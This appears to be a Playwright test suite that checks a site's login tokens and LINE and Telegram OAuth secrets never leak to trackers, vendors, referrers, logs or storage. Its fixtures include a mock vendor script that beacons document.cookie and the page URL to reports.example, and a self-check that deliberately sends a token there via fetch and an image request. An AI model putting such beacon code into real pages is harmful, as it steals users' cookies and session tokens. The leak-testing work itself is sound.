import type { Page, Request } from "@playwright/test";
import { answer, logIn, logInAt, storedToken } from "./identity-steps.ts";
import { ports } from "./ports.ts";
import { askConsole, type Brand, expect, home, leadTo, newName, open, test } from "./support.ts";

/** A recorded text with its source: `https://x.example/tr header referer`. */
interface Recording {
  readonly where: string;
  readonly text: string;
}

/** The stand-ins of the pixel and the chat are answered by the test as well. */
const PIXEL_HOST = "connect.facebook.net.localhost";
const CHAT_HOST = "cdn.livechatinc.com.localhost";

const isOutside = ({ hostname }: URL) =>
  [PIXEL_HOST, CHAT_HOST].includes(hostname) || (!hostname.endsWith("localhost") && hostname !== "127.0.0.1");

/** What a vendor's script or page reports about its page. */
const report = `new Image().src = "https://reports.example/seen?" + new URLSearchParams({
  href: location.href, referrer: document.referrer, cookie: document.cookie, name: window.name,
  state: JSON.stringify(history.state), queue: JSON.stringify(window.fbq && window.fbq.queue) });`;

/** Mocks external origins, with scripts and pages that report what they see. */
const answerOutside = (page: Page) =>
  page.route(isOutside, (route) => {
    const type = route.request().resourceType();
    if (type === "script") return route.fulfill({ contentType: "text/javascript", body: report });
    if (type === "document")
      return route.fulfill({
        contentType: "text/html",
        body: `<!doctype html><title>Vendor</title><script>${report}</script>`,
      });
    return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
  });

/** Records all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
function listen(page: Page) {
  const recordings: Recording[] = [];
  const reading: Promise<void>[] = [];
  const record = async (request: Request) => {
    const url = new URL(request.url());
    const endpoint = url.origin + url.pathname;
    // The address that contained the secret is its origin.
    if (!request.isNavigationRequest() || request.frame() !== page.mainFrame()) {
      recordings.push({ where: `${endpoint} url`, text: request.url() });
    }
    recordings.push({ where: `${endpoint} body`, text: request.postData() ?? "" });
    const headers = await request.allHeaders().catch(() => request.headers());
    for (const [name, text] of Object.entries(headers)) {
      if (!name.startsWith(":")) recordings.push({ where: `${endpoint} header ${name}`, text });
    }
  };
  page.on("request", (request) => reading.push(record(request)));
  page.on("console", (message) => recordings.push({ where: "console", text: message.text() }));
  return {
    recordings,
    async settled() {
      await Promise.all(reading);
    },
  };
}

interface LoggedRequest {
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: unknown;
}

/** The gateway's log and events; without those that were there `before`. */
async function readLog(brand: Brand, before: ReadonlySet<string> = new Set()) {
  const isNew = (entry: object) => !before.has(JSON.stringify(entry));
  const requests = await askConsole<LoggedRequest[]>("GET", `/api/requests?merchant=${brand}`);
  const events = await askConsole<object[]>("GET", `/api/events?merchant=${brand}`);
  return { requests: requests.filter(isNew), events: events.filter(isNew) };
}

/** What the gateway's log and events have so far. */
async function loggedBy(brand: Brand): Promise<ReadonlySet<string>> {
  const { requests, events } = await readLog(brand);
  return new Set([...requests, ...events].map((entry) => JSON.stringify(entry)));
}

/** What remains: address bar, history, storage, cookies, and what is new in the gateway's log and events. */
async function remains(page: Page, brand: Brand, before: ReadonlySet<string>): Promise<readonly Recording[]> {
  const devtools = await page.context().newCDPSession(page);
  const { entries } = await devtools.send("Page.getNavigationHistory");
  const kept = await page.evaluate(() => ({
    localStorage: { ...localStorage },
    sessionStorage: { ...sessionStorage },
    ...{ title: { title: document.title }, cookie: { cookie: document.cookie } },
    timing: { entries: JSON.stringify(performance.getEntries()) },
  }));
  const { requests, events } = await readLog(brand, before);
  return [
    { where: "address", text: page.url() },
    ...entries.map(({ url }) => ({ where: "history", text: url })),
    ...Object.entries(kept).flatMap(([area, values]) =>
      Object.entries(values).map(([key, text]) => ({ where: `${area} ${key}`, text: String(text) })),
    ),
    ...requests.flatMap(({ path, headers, ...rest }) => [
      ...Object.entries(headers).map(([name, text]) => ({ where: `gateway ${path} header ${name}`, text })),
      { where: `gateway ${path} log`, text: JSON.stringify(rest) },
    ]),
    ...events.map((event) => ({ where: "event", text: JSON.stringify(event) })),
  ];
}

/** Finds a secret in recorded texts, also URL- or JSON-encoded. */
const locationsOf = (secret: string, recordings: readonly Recording[]) => [
  ...new Set(
    recordings
      .filter(({ text }) =>
        [secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1)].some((form) => text.includes(form)),
      )
      .map(({ where }) => where),
  ),
];

const own = (brand: Brand) => `http://${brand}.localhost:${ports.site}`;

/** Where a session's token may be. */
const isTokenLocation = (brand: Brand) => (where: string) =>
  where === "sessionStorage MC_SESSION_INFO" ||
  (where.startsWith(`${own(brand)}/wps/`) && where.endsWith(" header authorization")) ||
  (where.startsWith("gateway /wps/") && where.endsWith(" header authorization"));

/** The edge gives what it took out of a page's address to that page: the request that follows its redirect has it. */
const isEntryCookie = (brand: Brand, path: string) => (where: string) => where === `${own(brand)}${path} header cookie`;

/** Requires consent, for this page only: other tests run at the same time. */
const askForConsent = (page: Page) =>
  page.route("**/wps/system/consent", async (route) => {
    const url = new URL(route.request().url());
    const headers = { ...route.request().headers(), host: url.host };
    const response = await route.fetch({ url: `http://127.0.0.1:${ports.site}${url.pathname}`, headers });
    const answer = await response.json();
    await route.fulfill({ response, json: { ...answer, value: { ...answer.value, required: true } } });
  });

const accept = async (page: Page) => {
  await page.getByRole("dialog", { name: "Your privacy" }).getByRole("button", { name: "Accept" }).click();
};

test.use({ allowErrors: /./ });

test("a token in the address reaches no tracker, no vendor, no game, no referrer, no log and no other key of storage", async ({
  site,
  browser,
}) => {
  // One that the gateway issued, to another browser.
  const elsewhere = await browser.newContext({ baseURL: home("manila") });
  const other = await elsewhere.newPage();
  await logInAt(other, "manila", "agent");
  const token = await storedToken(other);
  await elsewhere.close();

  const logged = await loggedBy("manila");
  const recorder = listen(site);
  const reports = () => recorder.recordings.filter(({ where }) => where === "https://reports.example/seen url").length;
  await answerOutside(site);
  await askForConsent(site);
  const pixel = site.waitForRequest((request) => request.url().includes(PIXEL_HOST));
  const delivered = site.waitForRequest((request) => request.url().includes("eventTracking"));
  await open(site, home("manila", `/m/member/home?token=${token}&fbclid=abc&from=app`));
  await accept(site);
  await Promise.all([pixel, delivered]);
  await expect.poll(reports).toBeGreaterThan(0);
  await expect(site).toHaveURL(/\/m\/member\/home\?fbclid=abc&from=app$/);
  expect(await storedToken(site)).toBe(token);

  // Around the site: a vendor's chat, a game on its own origin, an error that is reported.
  const before = reports();
  await site.getByRole("main").getByRole("button", { name: "Customer support" }).click();
  await expect.poll(reports).toBeGreaterThan(before);
  await site.route("**/wps/game/launchGame", (route) =>
    route.fulfill({ json: { success: true, value: { gameUrl: "https://games.example/play" } } }),
  );
  const game = site.waitForRequest("https://games.example/play");
  await site.evaluate(() => {
    history.pushState(null, "", "/m/launchGame?vendor=SAMBA&code=SB_CARNAVAL_NEON");
    // The router reads the address anew.
    dispatchEvent(new PopStateEvent("popstate"));
  });
  expect((await (await game).allHeaders()).referer).toBe(`${own("manila")}/`);
  const reported = site.waitForRequest((request) => request.url().includes("/wps/system/collect"));
  await site.evaluate(() => void setTimeout(() => Promise.reject(new Error(location.href))));
  await reported;

  await recorder.settled();
  const everything = [...recorder.recordings, ...(await remains(site, "manila", logged))];
  expect(everything.filter(({ where }) => where === "event").length).toBeGreaterThan(0);
  const locations = locationsOf(token, everything);
  expect(locations.some(isTokenLocation("manila"))).toBe(true);
  const isAllowed = (where: string) =>
    isTokenLocation("manila")(where) || isEntryCookie("manila", "/m/member/home")(where);
  expect(locations.filter((where) => !isAllowed(where))).toEqual([]);

  // A check of the recorder: a leak of every kind is recorded.
  await site.evaluate((secret) => {
    console.info(secret);
    localStorage.setItem("leak", secret);
    history.pushState(null, "", `/m/home?leak=${secret}`);
    void fetch("https://reports.example/leak", { method: "POST", body: secret, mode: "no-cors" }).catch(() => {});
    new Image().src = `https://reports.example/image?${secret}`;
    navigator.sendBeacon(
      "/wps/system/collect",
      JSON.stringify({ merchant: "manila", value: { type: "error", code: secret, build: "x" } }),
    );
  }, token);
  const leaks = async () => {
    await recorder.settled();
    return locationsOf(token, [...recorder.recordings, ...(await remains(site, "manila", logged))]);
  };
  const expected = ["console", "localStorage leak", "address", "history", "event", "https://reports.example/image url"];
  await expect.poll(leaks).toEqual(expect.arrayContaining(expected));
});

test("LINE's code and state are used in the gateway's one call, and appear nowhere else; who is linked is led straight to the requested page", {
  tag: "@full",
}, async ({ site }) => {
  const who = newName();
  await answerOutside(site);
  await open(site, home("lotus", "/m/login?go=%2Fm%2Fmember%2Fhome"));
  await site.getByRole("button", { name: "Continue with LINE" }).click();
  await site.getByLabel("Somebody else").fill(who);

  const before = await loggedBy("lotus");
  const recorder = listen(site);
  const back = site.waitForRequest((request) => request.isNavigationRequest() && /[?&]code=/.test(request.url()));
  const exchanged = site.waitForResponse((response) => response.url().includes("WPS3RD_verifyLineCode"));
  await site.getByRole("button", { name: "Allow", exact: true }).click();
  const returned = new URL((await back).url()).searchParams;
  const { lineSessionToken } = (await (await exchanged).json()).value;
  await site.getByRole("button", { name: "Log in to an existing account" }).click();
  await logIn(site, "player");
  await expect.poll(() => storedToken(site)).toBeTruthy();
  await expect(site).toHaveURL(/\/m\/member\/home$/);
  const token = await storedToken(site);

  await recorder.settled();
  const vendor = "access.line.me";
  const everything = [...recorder.recordings, ...(await remains(site, "lotus", before))].filter(
    // LINE issued the code, and received the state; its page is in the history.
    ({ where, text }) => !where.includes(vendor) && !(where === "history" && new URL(text).host.includes(vendor)),
  );
  const spent = (path: string) => [`${own("lotus")}${path} body`, `gateway ${path} log`];
  const stray = (secret: string | null, ...allowed: readonly string[]) =>
    locationsOf(secret ?? "", everything).filter(
      (where) => !allowed.includes(where) && !isEntryCookie("lotus", "/m/home")(where),
    );
  expect(stray(returned.get("code"), ...spent("/wps/relay/WPS3RD_verifyLineCode"))).toEqual([]);
  expect(stray(returned.get("state"))).toEqual([]);
  expect(stray(lineSessionToken, ...spent("/wps/session/login/line"), ...spent("/wps/session/login"))).toEqual([]);
  expect(locationsOf(token, everything).filter((where) => !isTokenLocation("lotus")(where))).toEqual([]);
  expect(locationsOf(returned.get("code") ?? "", everything)).toEqual(
    expect.arrayContaining(spent("/wps/relay/WPS3RD_verifyLineCode")),
  );

  await site.getByRole("button", { name: "Log out" }).click();
  await expect(site.getByRole("banner").getByRole("link", { name: "Log in" })).toBeVisible();
  await leadTo(site, "/m/login?go=%2Fm%2Fmember%2Fhome");
  await site.getByRole("button", { name: "Continue with LINE" }).click();
  await answer(site, "Allow", who);
  await expect(site).toHaveURL(/\/m\/member\/home$/);
  await expect.poll(() => storedToken(site)).toBeTruthy();
});

test("Telegram's answer is used in the gateway's one call, and appears nowhere else", { tag: "@full" }, async ({
  site,
}) => {
  await answerOutside(site);
  // The address at the moment of the call, before the log-in redirects: it is among the recorded texts.
  await site.addInitScript(() => {
    const { fetch } = window;
    window.fetch = (address, options) => {
      if (String(address).includes("/login/telegram")) sessionStorage.setItem("address then", location.href);
      return fetch(address, options);
    };
  });
  await open(site, home("noor", "/m/login"));
  await site.getByRole("button", { name: "Continue with Telegram" }).click();
  await site.getByLabel("Somebody else").fill(newName());

  const before = await loggedBy("noor");
  const recorder = listen(site);
  const arrived = site.waitForRequest((request) => request.url().endsWith("/wps/session/login/telegram"));
  await site.getByRole("button", { name: "Accept", exact: true }).click();
  const { telegramAuth } = (await arrived).postDataJSON();
  await expect.poll(() => storedToken(site)).toBeTruthy();
  await expect(site).toHaveURL(/\/m\/home$/);
  const token = await storedToken(site);

  await recorder.settled();
  const everything = [...recorder.recordings, ...(await remains(site, "noor", before))].filter(
    ({ where, text }) =>
      !where.includes("telegram.org") &&
      !(where === "history" && text.includes("telegram.org")) &&
      // No server sees a hash, so none can take it out of the address before the page has it.
      where !== "timing entries",
  );
  const path = "/wps/session/login/telegram";
  const spent = [`${own("noor")}${path} body`, `gateway ${path} log`];
  expect(locationsOf(telegramAuth.hash, everything).sort()).toEqual(spent.sort());
  expect(everything).toContainEqual({ where: "sessionStorage address then", text: home("noor", "/m/login") });
  expect(locationsOf("tgAuthResult", everything)).toEqual([]);
  expect(locationsOf(token, everything).filter((where) => !isTokenLocation("noor")(where))).toEqual([]);
});
